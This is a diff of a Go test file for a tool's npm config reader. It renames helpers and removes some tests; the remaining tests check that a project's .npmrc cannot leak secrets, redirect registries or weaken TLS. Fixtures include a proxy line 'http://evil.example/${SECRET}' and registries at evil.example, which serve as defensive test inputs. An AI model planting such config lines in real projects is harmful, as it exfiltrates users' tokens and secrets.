@@ -1,19 +1,12 @@
-package npm
+package npmrc
 
 import (
-	"context"
-	"encoding/pem"
-	"io"
-	"log"
 	"net/http"
-	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
-
-	"github.com/docent-mcp/docent/internal/ecosystem"
 )
 
 // What a project's files say is what whoever wrote the project says.
@@ -45,19 +38,19 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 					files = map[string]string{"package.json": "{}", "yarn.lock": "__metadata:\n  version: 8\n", file: "npmRegistryServer: '" + test.registry + "'"}
 				}
 				write(t, w.project, files)
-				r, err := configOf(t, w, true).registryFor("coins")
+				r, err := w.read(t, true).RegistryFor("coins")
 				switch {
 				case err != nil:
 					if !strings.Contains(err.Error(), test.want) || strings.Contains(err.Error(), "s3cret") || !strings.Contains(err.Error(), filepath.Join(w.project, file)) {
 						t.Errorf("said %v", err)
 					}
-				case r.url.String() != test.want:
-					t.Errorf("is %s", r.url)
+				case r.URL.String() != test.want:
+					t.Errorf("is %s", r.URL)
 				}
 				if file == ".npmrc" && strings.HasPrefix(test.registry, "https://evil") {
 					// The user's own file may say what it likes.
 					write(t, w.home, map[string]string{".npmrc": "registry=" + test.registry})
-					if r, err := configOf(t, w, false).registryFor("coins"); err != nil || r == nil {
+					if r, err := w.read(t, false).RegistryFor("coins"); err != nil || r == nil {
 						t.Errorf("of the user it is %v, %v", r, err)
 					}
 				}
@@ -67,9 +60,9 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 	// A proxy is an address, too; one that is refused is none.
 	w := newWorld(t, "SECRET=s3cret")
 	write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\nproxy=http://evil.example/${SECRET}"})
-	c := configOf(t, w, true)
+	c := w.read(t, true)
 	u := &url.URL{Scheme: "https", Host: "r.example"}
-	if net := c.networkFor(u, credential{}); strings.Contains(net.key(), "s3cret") {
+	if net := c.NetworkFor(u, Credential{}); strings.Contains(net.key(), "s3cret") {
 		t.Error("a proxy is told a variable")
 	}
 }
@@ -90,11 +83,11 @@ func TestWhichVariablesProjectsMayHave(t *testing.T) {
 			w := newWorld(t, "TOKEN=s3cret", test.list)
 			write(t, w.home, map[string]string{".npmrc": test.user})
 			write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\n" + test.proj})
-			cred := sentTo(t, configOf(t, w, true), "coins", "")
-			if cred.authorization != test.sent {
-				t.Errorf("sent %q", cred.authorization)
+			cred := sentTo(t, w.read(t, true), "coins", "")
+			if cred.Authorization != test.sent {
+				t.Errorf("sent %q", cred.Authorization)
 			}
-			if said := cred.lacks.String() + cred.lacks.remedy(); test.sent == "" && !strings.Contains(said, "TOKEN, which DOCENT_PROJECT_VARIABLES does not list") {
+			if said := cred.Missing.String() + cred.Missing.Remedy(); test.sent == "" && !strings.Contains(said, "TOKEN, which DOCENT_PROJECT_VARIABLES does not list") {
 				t.Errorf("said %s", said)
 			}
 		})
@@ -108,8 +101,8 @@ func TestAProjectChoosesNoFilesOfTheUsers(t *testing.T) {
 		"package.json": "{}", "theirs": "@till:registry=https://evil.example", "etc/npmrc": "@till:registry=https://evil.example",
 		".npmrc": "userconfig=theirs\nglobalconfig=theirs\nprefix=.",
 	})
-	c := configOf(t, w, true)
-	if r, err := c.registryFor("@till/coins"); err != nil || r.url.Host != "r.example" {
+	c := w.read(t, true)
+	if r, err := c.RegistryFor("@till/coins"); err != nil || r.URL.Host != "r.example" {
 		t.Errorf("comes from %+v, %v", r, err)
 	}
 }
@@ -137,7 +130,7 @@ func TestWhichFilesNpmReads(t *testing.T) {
 		if tool != "" {
 			write(t, root, map[string]string{tool: map[bool]string{true: "{}", false: "lockfileVersion: '9.0'\n"}[strings.HasSuffix(tool, "json")]})
 		}
-		if got := strings.Join(configOf(t, w, true).scopes(), " "); got != want {
+		if got := strings.Join(w.read(t, true).Scopes(), " "); got != want {
 			t.Errorf("with %q there are %s, not %s", tool, got, want)
 		}
 		os.Remove(filepath.Join(root, tool))
@@ -145,104 +138,8 @@ func TestWhichFilesNpmReads(t *testing.T) {
 	// A project that is the home directory has the user's file, not its own.
 	w.project, w.env = w.home, w.env[:1]
 	write(t, w.home, map[string]string{"package.json": "{}"})
-	if r, err := configOf(t, w, true).registryFor("@home/x"); err != nil || r.project {
+	if r, err := w.read(t, true).RegistryFor("@home/x"); err != nil || r.project {
 		t.Errorf("comes from %+v, %v", r, err)
-	}
-}
-
-func TestACredentialIsNotSentWithoutEncryption(t *testing.T) {
-	const token = "\n//r.example/:_authToken=s3cret"
-	tests := []struct {
-		name, user, proj string
-		sent             bool
-	}{
-		{"a project's registry and credential", "", "registry=http://r.example" + token, false},
-		{"a project's registry, the user's credential", token, "registry=http://r.example", false},
-		{"the user's registry at https", "registry=https://r.example" + token, "registry=http://r.example", false},
-		{"the user's own", "registry=http://r.example" + token, "", true},
-		{"the user's own for a scope", "@till:registry=http://r.example" + token, "registry=http://r.example", true},
-	}
-	for _, test := range tests {
-		t.Run(test.name, func(t *testing.T) {
-			s := newStub(t) // plays the proxy, which is sent what is for r.example
-			s.publish("coins", "1.0.0", packed(t, "coins", "1.0.0", "coins"), "latest")["tarball"] = "http://r.example/coins/-/1.0.0.tgz"
-			w := newWorld(t, "http_proxy="+s.URL)
-			write(t, w.home, map[string]string{".npmrc": test.user})
-			write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": test.proj})
-			p, err := w.npm().Describe(t.Context(), ecosystem.Query{Package: "coins", ProjectDir: w.project})
-			log := strings.Join(s.asked(), "\n")
-			if sent := strings.Contains(log, "Bearer s3cret"); sent != test.sent || (p != nil) != test.sent {
-				t.Errorf("asked %q, got %v, %v", log, p != nil, err)
-			}
-			if !test.sent && (err == nil || !strings.Contains(err.Error(), "is not sent without encryption") || !strings.Contains(err.Error(), "registry in "+filepath.Join(w.project, ".npmrc")) || strings.Contains(err.Error(), "s3cret")) {
-				t.Errorf("said %v", err)
-			}
-		})
-	}
-}
-
-// secureStub is a registry that nobody's trust is configured for.
-func secureStub(t *testing.T) (s *stub, at string, cert []byte) {
-	t.Helper()
-	s = newStub(t)
-	secure := httptest.NewUnstartedServer(http.HandlerFunc(s.serve))
-	secure.Config.ErrorLog = log.New(io.Discard, "", 0)
-	secure.StartTLS()
-	t.Cleanup(secure.Close)
-	s.publish("coins", "1.0.0", packed(t, "coins", "1.0.0", "coins"), "latest")["tarball"] = secure.URL + "/coins/-/1.0.0.tgz"
-	return s, secure.URL, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw})
-}
-
-func TestAProjectWeakensOnlyTheWayToItsOwnRegistries(t *testing.T) {
-	s, at, cert := secureStub(t)
-	host := strings.TrimPrefix(at, "https://")
-	token := "\n//" + host + "/:_authToken=s3cret"
-	tests := []struct {
-		name, user, proj string
-		shown            bool
-	}{
-		{"a host that it names", "", "registry=URL\nstrict-ssl=false", true},
-		{"by cafile", "", "registry=URL\ncafile=ca.pem", true},
-		{"for that host alone", "", "registry=URL\n//HOST/:cafile=ca.pem", true},
-		{"with a credential of its own", "", "registry=URL\ncafile=ca.pem" + token, true},
-		{"a host that the user names", "registry=URL", "strict-ssl=false", false},
-		{"with a credential of the user's", token, "registry=URL\nstrict-ssl=false", false},
-		{"the same with cafile", token, "registry=URL\ncafile=ca.pem", false},
-		{"the same with a proxy", token, "registry=URL\nstrict-ssl=false\nhttps-proxy=http://127.0.0.1:9", false},
-		{"the user's own trust", "registry=URL\ncafile=ca.pem" + token, "", true},
-		{"of the user's before it", "strict-ssl=false" + token, "registry=URL\nstrict-ssl=true", true},
-	}
-	for _, test := range tests {
-		t.Run(test.name, func(t *testing.T) {
-			s.asked()
-			w := newWorld(t)
-			fill := strings.NewReplacer("URL", at, "HOST", host)
-			write(t, w.home, map[string]string{".npmrc": fill.Replace(test.user), "ca.pem": string(cert)})
-			write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": fill.Replace(test.proj), "ca.pem": string(cert)})
-			p, err := w.npm().Describe(t.Context(), ecosystem.Query{Package: "coins", ProjectDir: w.project})
-			if (p != nil) != test.shown || !test.shown && len(s.asked()) != 0 {
-				t.Errorf("got %v, %v", p != nil, err)
-			}
-			if !test.shown && strings.Contains(test.user, "s3cret") && !strings.Contains(err.Error(), "does not count for requests that carry your own credential") {
-				t.Errorf("said %v", err)
-			}
-		})
-	}
-}
-
-func TestWhatAProjectsWayBroughtIsKeptApart(t *testing.T) {
-	s, at, _ := secureStub(t)
-	w := newWorld(t)
-	write(t, w.home, map[string]string{".npmrc": "registry=" + at})
-	write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "strict-ssl=false\nregistry=" + at})
-	n := w.npm()
-	describe(t, n, "coins", "", w.project)
-	if len(s.asked()) == 0 {
-		t.Fatal("the project asked nobody")
-	}
-	// Whoever stood in between may have answered: it is not what the user is told.
-	if p, err := n.Describe(context.Background(), ecosystem.Query{Package: "coins", Version: "1.0.0"}); err == nil {
-		t.Errorf("outside of the project there is %s", p.Version)
 	}
 }
 
@@ -269,8 +166,8 @@ func TestProxiesInTheirOrder(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			net := configOf(t, w, false).networkFor(u, credential{})
-			got, err := net.proxy(w.npm().env, u, credential{})(&http.Request{URL: u})
+			net := w.read(t, false).NetworkFor(u, Credential{})
+			got, err := net.Proxy(w.environ(), u, Credential{})(&http.Request{URL: u})
 			if got == nil {
 				got = &url.URL{}
 			}
